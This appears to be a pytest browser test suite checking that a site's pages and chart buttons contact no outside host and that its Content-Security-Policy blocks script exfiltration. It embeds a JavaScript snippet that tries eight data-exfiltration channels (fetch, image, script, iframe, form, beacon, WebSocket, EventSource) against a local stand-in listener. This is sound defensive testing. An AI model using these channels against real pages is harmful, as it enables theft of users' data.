"""No page reaches another host: not by itself, not through a chart's buttons, not if a script on it tried."""

import socket
import threading
from collections.abc import Iterator

import pytest

from tests.browser.test_safety import PAGES

CHARTS = ["/explore/", "/roofline/"]  # drawn by static/js/charts.js
WAIT = 60_000

# Every way a script of the page could send something out without leaving the page. Each is refused or fails.
ATTEMPTS = """async (url) => {
  const tries = {
    fetch: () => fetch(url, { method: "POST", mode: "no-cors", body: "figures" }),
    image: () => new Promise((done) => { const image = new Image(); image.onload = image.onerror = done; image.src = url; }),
    script: () => new Promise((done) => { const script = document.createElement("script");
      script.onload = script.onerror = done; script.src = url; document.head.append(script); }),
    frame: () => { const frame = document.createElement("iframe"); frame.src = url; document.body.append(frame); },
    form: () => { const form = document.createElement("form"); form.action = url; form.method = "post";
      form.target = "_blank"; document.body.append(form); form.submit(); },
    beacon: () => navigator.sendBeacon(url, "figures"),
    socket: () => new WebSocket(url.replace("http", "ws")),
    events: () => new EventSource(url),
  };
  for (const attempt of Object.values(tries)) { try { await attempt(); } catch { /* refused */ } }
  await new Promise((done) => setTimeout(done, 400));
}"""


class Listener:
    """Another host: keeps the first line of every request that reaches it."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self.socket.getsockname()[1]}/collect"
        self.requests: list[str] = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _address = self.socket.accept()
            except OSError:
                return
            with connection, connection.makefile("rb") as stream:
                connection.settimeout(2)
                if line := stream.readline(200):  # a connection opened ahead of a refused request carries nothing
                    self.requests.append(line.decode(errors="replace").strip())


@pytest.fixture
def other_host() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.socket.close()


@pytest.mark.parametrize("path", PAGES)
def test_page_reaches_no_other_host_nor_can_its_scripts(site, browser_page, browser_context, other_host, path):
    requested: list[str] = []
    browser_page.on("request", lambda request: requested.append(request.url))
    answer = browser_page.goto(site.url + path, wait_until="load")
    browser_page.wait_for_timeout(300)
    assert "script-src 'self'" in answer.headers["content-security-policy"]
    assert [line for line in browser_context.troubles if "status of 404" not in line] == []
    assert [url for url in requested if not url.startswith((site.url, "data:", "blob:"))] == []
    browser_page.evaluate(ATTEMPTS, other_host.url)
    assert other_host.requests == []


def test_the_listener_notices_a_page_without_a_policy(browser, other_host):
    """The test above can fail: the same attempts from a page with no policy do arrive."""
    context = browser.new_context()
    try:
        page = context.new_page()
        page.set_content("<!doctype html><title>no policy</title>")
        page.evaluate(ATTEMPTS, other_host.url)
    finally:
        context.close()
    assert other_host.requests


@pytest.mark.parametrize("path", CHARTS)
def test_no_button_of_a_chart_opens_or_asks_another_host(visit, site, browser_context, path):
    requested: list[str] = []
    opened: list[str] = []
    page = visit(path)
    browser_context.on("request", lambda request: requested.append(request.url))
    browser_context.on("page", lambda popup: opened.append(popup.url))
    for button in page.locator("[data-chart-open]:visible").all():
        button.click()
    page.locator(".js-plotly-plot .modebar-btn").first.wait_for(state="attached", timeout=WAIT)
    titles = page.eval_on_selector_all(".modebar-btn", "buttons => buttons.map(button => button.dataset.title || '')")
    assert titles
    assert [title for title in titles if "share" in title.lower() or "cloud" in title.lower()] == []
    page.evaluate("document.querySelectorAll('.modebar-btn').forEach((button) => button.click())")
    page.wait_for_timeout(500)
    assert page.locator(".plotly-cloud-dialog-box").count() == 0
    servers = "plots => plots.map((plot) => [plot._context.plotlyServerURL, plot._context.topojsonURL])"
    assert {tuple(urls) for urls in page.eval_on_selector_all(".js-plotly-plot", servers)} == {("", "")}
    assert opened == []
    assert [url for url in requested if not url.startswith((site.url, "data:", "blob:"))] == []
